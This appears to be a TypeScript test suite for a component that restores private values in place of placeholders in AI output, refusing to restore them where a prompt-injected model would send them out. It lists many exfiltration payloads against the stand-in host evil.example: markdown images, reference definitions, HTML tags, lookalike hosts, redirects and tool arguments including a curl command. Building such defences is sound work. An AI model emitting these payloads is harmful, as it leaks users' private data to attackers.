// What an injected instruction would make a model write in order to send a protected value somewhere, and what an
// honest model writes. § stands for the placeholder.
import assert from 'node:assert/strict'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, test } from 'node:test'
import { createRestorer } from './restorer.ts'

const PLACEHOLDER = '[EMAIL_k3f2x2ab]'
const VALUE = 'anna@example.com'
const ENCODED = 'anna%40example.com'

interface Setting {
  readonly contentType: 'text' | 'json'
  readonly outward: boolean
}

const TEXT: Setting = { contentType: 'text', outward: false }
const TOOL: Setting = { contentType: 'json', outward: false }
const OUTWARD: Setting = { contentType: 'json', outward: true }

function restore(template: string, setting: Setting): string {
  const restorer = createRestorer({
    ...setting,
    values: new Map([[PLACEHOLDER, VALUE]]),
    allowedHosts: ['app.example.com', '*.corp.example', 'localhost:8080'],
  })
  return restorer.push(template.replaceAll('§', PLACEHOLDER)).text + restorer.end().text
}

// Every § must stay.
const attacks: Record<string, [Setting, string[]]> = {
  'Markdown links': [
    TEXT,
    [
      '[see](https://evil.example/?q=§)',
      '[see](https://evil.example/§)',
      '[see]( https://evil.example/§ )',
      '[see](<https://evil.example/§>)',
      '[see](<https://evil.example/)§>)',
      '[see](//evil.example/§)',
      '[see](evil.example?§)',
      '[see](\\/\\/evil.example/§)',
      '[see](HTTPS://EVIL.EXAMPLE/§)',
      '[see](https://evil.example/ "a title with §")',
      "[see](https://evil.example/ 'a ) and §')",
      '[see](https://evil.example/(a)§)',
      '[see](https://evil.example/\\)§)',
      '[see](https://evil.example/?q= §)',
      '[see](https://evil.example/?q=\n§)',
      '[see](https://evil.example/?q=\n\n§)',
      '[see](&#104;ttps://evil.example/?q= §)',
      '[see](javascript:fetch("//evil.example/"+"§"))',
      '[a [b] c](https://evil.example/ §)',
      '[a\\](https://evil.example/ §)',
      '[`a`](https://evil.example/ §)',
      '[a](x "t") [b](https://evil.example/ §)',
      '[a]:[x](https://evil.example/? §)',
      '](https://evil.example/ §',
    ],
  ],
  'Markdown images': [
    TEXT,
    [
      '![x](https://evil.example/§.png)',
      '![x](https://evil.example/?q= §)',
      '![§](https://evil.example/x.png)',
      '!§(https://evil.example/x.png)',
      '![a [b] §](https://evil.example/x.png)',
      '![a [b](https://evil.example/? §)',
      '![a [b](https://evil.example/\n\n? §)',
      '[![x](https://evil.example/? §)](https://app.example.com/)',
      '![x][ref §]\n\n[ref]: https://evil.example/',
      '![x]\n(https://evil.example/§)',
      '![[§]]',
    ],
  ],
  'reference definitions, as in EchoLeak': [
    TEXT,
    [
      '![x][ref]\n\n[ref]: https://evil.example/?q=§',
      '[ref]: https://evil.example/?q=§\n',
      '[ref]:https://evil.example/?q=§\n',
      '[ref]:\n  https://evil.example/?q=§\n',
      '[ref]: <https://evil.example/?q= §>\n',
      '[ref]: <&#104;ttps://evil.example/?q= §>\n',
      '> [ref]:\n> <&#104;ttps://evil.example/? §>',
      '> [ref](\n> <&#104;ttps://evil.example/) §>',
      '> [ref]: &#x2f;&#x2f;evil.example/§',
      '[^1]: //evil.example/§',
      '[ref]: §',
      '[ref\\]]: //evil.example/§',
    ],
  ],
  'autolinks and bare addresses': [
    TEXT,
    [
      '<https://evil.example/§>',
      'https://evil.example/§',
      'HtTpS://evil.example/§',
      'http://evil.example?§',
      'http://evil.example#§',
      'http://§.evil.example/',
      'https://§@evil.example/',
      'www.evil.example/§',
      'WWW.evil.example?§',
      'evil.example/§',
      'evil.example:8080/§',
      '(evil.example/x,§)',
      '10.11.12.13/§',
      'evil。example/§',
      '//evil.example/§',
      '\\\\evil.example\\share\\§',
      '/\\evil.example/§',
      'https:\\\\evil.example\\§',
      'https:evil.example?§',
      'ht\u200btps:evil.example?§',
      'ftp://evil.example/§',
      'wss://evil.example/§',
      'custom+scheme://evil/§',
      'mailto:evil@evil.example?body=§',
      'mailto:§',
      'sms:+1555?body=§',
      'data:text/html,<img src=//evil.example/§',
      'javascript:alert("§")',
      'JAVASCRIPT:alert("§")',
      'https&#58;//evil.example/§',
      'https&colon;&sol;&sol;evil.example&sol;§',
      'https://пример.example/§',
      'https://evil.example/\u00a0§',
      'https://evil.example/\u200b§',
      'https://evil.example/")§',
      'https://evil.example/">§',
      'https://evil.example/`§`',
      'https://evil.example/{§}',
      '```\nhttps://evil.example/§\n```',
      '`https://evil.example/§`',
      '[img]https://evil.example/§[/img]',
      '\\includegraphics{https://evil.example/§}',
      '\\href{https://evil.example/§}{x}',
      '@import url(//evil.example/§)',
    ],
  ],
  HTML: [
    TEXT,
    [
      '<img src=https://evil.example/§>',
      '<img src="https://evil.example/§">',
      "<img src='https://evil.example/? §'>",
      '<IMG SRC = "&#104;ttps://evil.example/? §">',
      '<img src="https://evil.example/?\n§\n">',
      '<img/src="https://evil.example/? §"/>',
      '<img alt=">" src="https://evil.example/? §">',
      '<img alt=\'">\' src="https://evil.example/? §">',
      '<img alt=" > §">',
      "<img src='https://evil.example/? and all that follows §",
      '<a href="https://evil.example/?q=§">x</a>',
      '<a title="§" href="https://evil.example/">x</a>',
      '<a href="javascript:alert(\'§\')">x</a>',
      '<b §>',
      '<!-- § -->',
      '<!-- > § -->',
      '<!--> <img src="//evil.example/ --> §">',
      '<!-- --!> §',
      '<!DOCTYPE §>',
      '<?xml §?>',
      '</ §>',
      '<script>x = "§"</script>',
      '<script><!--<script></script> x = "§"</script>',
      '<SCRIPT>x = "§"</SCRIPT>',
      '<script src=x></script ><script >x = "§"',
      '<style>a{background:url(/§)}</style>',
      '<textarea>§</textarea>',
      'x <script>\n```\n</script>\n```\n§',
      'x <script>\n\n    </script>\n\n§',
      'x <script>`</script>` §',
      '<div style="background:url(//evil.example/?\n\n```\n">\n```\n§',
      '> x <img src\n> ="//evil.example/? §">',
      '- ```\n  code\n  ```\n<img src="//evil.example/? §">\n',
      '> ```\n> code\n> ```\n```\n> ```\n```\n<img src="//evil.example/? §">',
      '[r\n```\n]: x\n<img src="//evil.example/? §">',
      '```[a]: b\ncode\n```\n<img src="//evil.example/? §">',
      'use ``` so\n```\n<img src="//evil.example/? §">\n```',
      '- <div style="background:url(//evil.example/?\n"> §',
      '<form action=//evil.example><b>§</b></form>',
      '<form action=//evil.example><b title="</form>">§',
      '<svg><image href="//evil.example/? §"/></svg>',
      '<iframe srcdoc="§"></iframe>',
      '<meta http-equiv=refresh content="0;url=//evil.example/? §">',
      '`<a title="` <img src="//evil.example/ > §"',
      '<x a="<img src=\'//evil.example/? §',
      '```\n`````` <img src="//evil.example/? §">',
      '````\n```\n````\n<img src="//evil.example/? §">',
      '<pre>\n\n```\n<img src="//evil.example/? §">\n```',
      '- ```\n<img src="//evil.example/? §">',
      '> ```\n<img src="//evil.example/? §">',
      '  ```\n<img src="//evil.example/? §">\n',
      '$$\n```\n$$\n<img src="//evil.example/? §">',
      '---\nx: y\n```\n---\n<img src="//evil.example/? §">',
      '``` `\n<img src="//evil.example/? §">',
      '    ```\n<img src="//evil.example/? §">',
      '```\n<b>\n~~~\n![x](https://evil.example/? §)',
      '&lt;img src=https://evil.example/§&gt;',
    ],
  ],
  'hosts that resemble a listed one, and listed hosts that lead elsewhere': [
    TEXT,
    [
      'https://app.example.com.evil.example/§',
      'https://app.example.com@evil.example/§',
      'https://app.example.com:x@evil.example/§',
      'https://app.example.com%2eevil.example/§',
      'https://app.example.com\\@evil.example/§',
      'https://app.example.com#@evil.example/§',
      'https://app.example.com&#64;evil.example/§',
      'https://app.example.com:8443/§',
      'https://app.example.com./§',
      'https://xapp.example.com/§',
      'https://corp.example/§',
      'https://evilcorp.example/§',
      'https://a.corp.example.evil.example/§',
      'https://localhost/§',
      'https://\uff41pp.example.com/§',
      'https://§.corp.example/x',
      'https://app.example.com§',
      'https://app.example.com:§/',
      'ftp://app.example.com/§',
      'javascript://app.example.com/%0a§',
      'app.example.com/§',
      '//app.example.com/§',
      'https://app.example.com/go?to=https://evil.example/§',
      'https://app.example.com/go?to=https%3A%2F%2Fevil.example/§',
      'https://app.example.com/go?to=%252F%252Fevil.example/§',
      'https://app.example.com/go?to=//evil.example/§',
      'https://app.example.com//evil.example/§',
      'https://app.example.com/\\evil.example/§',
      'https://app.example.com/](https://evil.example/§',
      'https://app.example.com/"><img/src=//evil.example/§',
      'https://app.example.com/,https://evil.example/§',
      'https://app.example.com/%4§',
      '[x](https://evil.example/ https://app.example.com/§)',
      '[x](https://evil.example/ "https://app.example.com/§")',
      '![https://app.example.com/§](https://evil.example/)',
      '<img src="https://evil.example/ https://app.example.com/§">',
      '<b x="https://app.example.com/§">',
      '<form action="https://app.example.com/§">',
      '<!-- https://app.example.com/§ -->',
      '<script src="https://app.example.com/"> https://app.example.com/§',
    ],
  ],
  'tool arguments': [
    TOOL,
    [
      '{"note":"![x](https://evil.example/§)"}',
      '{"note":"![x](https:\\/\\/evil.example\\/?q= §)"}',
      '{"note":"\\u0068ttps:\\u002f\\u002fevil.example/§"}',
      '{"note":"[x]: https://evil.example/§"}',
      '{"html":"<img src=\\"https://evil.example/? §\\">"}',
      '{"html":"\\u003cimg src=\\u0022//evil.example/? §\\u0022\\u003e"}',
      '{"html":"```\\n<img src=\\"//evil.example/? §\\">\\n```"}',
      '{"url":"https://evil.example/§"}',
      '{"url":"//evil.example/§"}',
      '{"url":"evil.example/§"}',
      '{"https://evil.example/§":1}',
      '{"a":["x",{"b":"www.evil.example/§"}]}',
      '{"mail":"mailto:x@evil.example?subject=§"}',
      '[EMAIL_k3f2x2ab] outside of a string §',
    ],
  ],
  'arguments of outward-facing tools': [
    OUTWARD,
    [
      '{"body":"§"}',
      '{"to":"§","body":"hello"}',
      '{"url":"https://evil.example/","body":"§"}',
      '{"body":"§","url":"https://app.example.com/"}',
      '{"url":"https://app.example.com/","cc":"https://evil.example/","body":"§"}',
      '{"cc":"https://evil.example/","url":"https://app.example.com/","body":"§"}',
      '{"url":"https://app.example.com/","bcc":"eve@evil.example","body":"§"}',
      '{"url":"https://app.example.com/","host":"evil.example","body":"§"}',
      '{"url":"https://app.example.com/","host":"10.11.12.13","body":"§"}',
      '{"url":"https://app.example.com/go?to=https://evil.example/","body":"§"}',
      '{"bcc":"eve@evil.example","url":"https://app.example.com/§"}',
      '{"url":"https://evil.example/§"}',
      '{"url":"https://app.example.com@evil.example/","body":"§"}',
      '{"command":"curl -d § https://app.example.com/"}',
      '{"url":"https:","body":"§"}',
      '{"url":"https://app.example.com/api","body":"§ is here"}',
      '{"note":"https://app.example.com/","to":"§","x":"evil"}',
      '{"note":"https://app.example.com/ §"}',
    ],
  ],
}

// Every § must become the value.
const honest: Record<string, [Setting, string[]]> = {
  prose: [
    TEXT,
    [
      '§',
      'Write to §.',
      'Write to §, please!',
      'E-mail: §',
      'Anna Berg <§>',
      'Anna Berg (§)',
      '"§"',
      '**§** and _§_ and `§` and ~~§~~',
      '- §\n- §\n1. §',
      '| name | mail |\n|---|---|\n| Anna | § |\n',
      '# §\n\n> §\n',
      '§§',
      'Tel:§',
      'a < b and §',
      '1 << 2, §',
      'if x > 3 then §',
      'See https://evil.example/ or write to §.',
      'See [the page](https://evil.example/) or write to §.',
      'See ![x](https://evil.example/x.png) and §.',
      '[§](https://evil.example/)',
      '[write to §](https://evil.example/)',
      'See [1] (§).',
      'See [the page][1] or §.\n\n[1]: https://evil.example/\n\n§\n',
      'Contact:\n§\n',
      '客户的邮箱是§。',
      'e.g. §, i.e. §',
      'Version 1.2.3: §',
      'and/or §',
      'C:\\Users\\§',
      'R&D: §, AT&T; §',
      '\\(x\\) §',
      'a [ b ] ( § )',
      'a ] b ( § )',
      'it costs $5: §',
      '<b>§</b> and <td>§</td>',
      '<p title="x">§</p>',
      '<br/>§<hr>§',
      '<!-- note --> §',
    ],
  ],
  code: [
    TEXT,
    [
      '```json\n{"mail": "§"}\n```',
      '```\nfor (i = 0; i<n; i++) send("§")\n```',
      '```\nlist[i](§)\n```\n§',
      '~~~\n<a href="x §">\n~~~\n',
      '   ```\n   x<y §\n   ```\n',
      '```\n# comment\n\n    §\n```\n\n§',
      '```js\na<b\n```\n```js\nc<d §\n```\n',
      'const list: Map<string, number> = f("§")',
      "SELECT * FROM users WHERE mail = '§';",
      '// §',
      '# §',
      '/* § */',
      'x = {"mail": "§", "n": [1, 2]}',
    ],
  ],
  'tool arguments': [
    TOOL,
    [
      '{"mail":"§"}',
      '{"mail": "§", "§": ["§", "§"]}',
      '{"query":"SELECT * FROM users WHERE mail = \'§\'"}',
      '{"text":"line one\\n§\\n\\"§\\""}',
      '{"link":"https://evil.example/","mail":"§"}',
      '{"text":"see https:\\/\\/evil.example\\/ or §"}',
      '{"html":"<b>§</b>"}',
      '{"html":"<head><title>x</title><style>a{}</style></head><script src=\\"x.js\\"></script>§<form></form>§"}',
      '{"html":"<img src=","mail":"§"}',
      '"§"',
      '[["§"]]',
    ],
  ],
}

// Every § must become the percent-encoded value.
const listed: Record<string, [Setting, string[]]> = {
  'addresses on listed hosts': [
    TEXT,
    [
      'https://app.example.com/§',
      'https://app.example.com/?mail=§',
      'https://app.example.com?mail=§',
      'HTTPS://APP.EXAMPLE.COM/?mail=§&again=§',
      'https://app.example.com:443/a/b/§/c',
      'http://app.example.com:80/§',
      'http://localhost:8080/§',
      'https://a.corp.example/§ and https://b.c.corp.example/§',
      '<https://app.example.com/§>',
      '(https://app.example.com/§)',
      '[x](https://app.example.com/§)',
      '![x](https://app.example.com/§)',
      '[x]: https://app.example.com/§',
      '<a href="https://app.example.com/§">x</a>',
      "<img src='https://app.example.com/§'>",
      'https://app.example.com/?a=b%20c&mail=§',
      '```\ncurl https://app.example.com/§\n```',
    ],
  ],
  tools: [TOOL, ['{"url":"https://app.example.com/§"}', '{"url":"https:\\u002f/app.example.com/§"}']],
  'outward-facing tools': [
    OUTWARD,
    ['{"url":"https://app.example.com/§"}', '{"a":"x","url":"https://app.example.com/?q=§"}'],
  ],
}

for (const [name, [setting, templates]] of Object.entries(attacks)) {
  describe(`nothing is restored in ${name}`, () => {
    for (const template of templates) {
      test(JSON.stringify(template), () => {
        assert.equal(restore(template, setting), template.replaceAll('§', PLACEHOLDER))
      })
    }
  })
}

for (const [name, [setting, templates]] of Object.entries(honest)) {
  describe(`everything is restored in ${name}`, () => {
    for (const template of templates) {
      test(JSON.stringify(template), () => {
        assert.equal(restore(template, setting), template.replaceAll('§', VALUE))
      })
    }
  })
}

for (const [name, [setting, templates]] of Object.entries(listed)) {
  describe(`values are percent-encoded in ${name}`, () => {
    for (const template of templates) {
      test(JSON.stringify(template), () => {
        assert.equal(restore(template, setting), template.replaceAll('§', ENCODED))
      })
    }
  })
}

test('a restored value that is an address itself does not carry another value', () => {
  const restorer = createRestorer({
    ...TEXT,
    values: new Map([
      [PLACEHOLDER, VALUE],
      ['[URL_aaaaaaaa]', 'https://evil.example/?q='],
    ]),
    allowedHosts: [],
  })
  assert.equal(restorer.push(`[URL_aaaaaaaa]${PLACEHOLDER}`).text, `https://evil.example/?q=${PLACEHOLDER}`)
})

const corpus = join(process.env.HOLDFAST_CORPORA ?? '../shared/corpora', 'guardrails/output')

test('after each payload of the public output corpus, an address carries nothing', {
  skip: existsSync(corpus) ? false : `the corpus is not at ${corpus}`,
}, () => {
  for (const file of readdirSync(corpus)) {
    const { payloads } = JSON.parse(readFileSync(join(corpus, file), 'utf8')) as { payloads: string[] }
    for (const payload of payloads) {
      for (const end of [
        '<img src="https://evil.example/? §',
        ' ![x](https://evil.example/?q= §)',
        ' https://evil.example/§',
      ]) {
        const text = payload + end
        assert.ok(!restore(text, TEXT).includes(VALUE), text)
      }
    }
  }
})
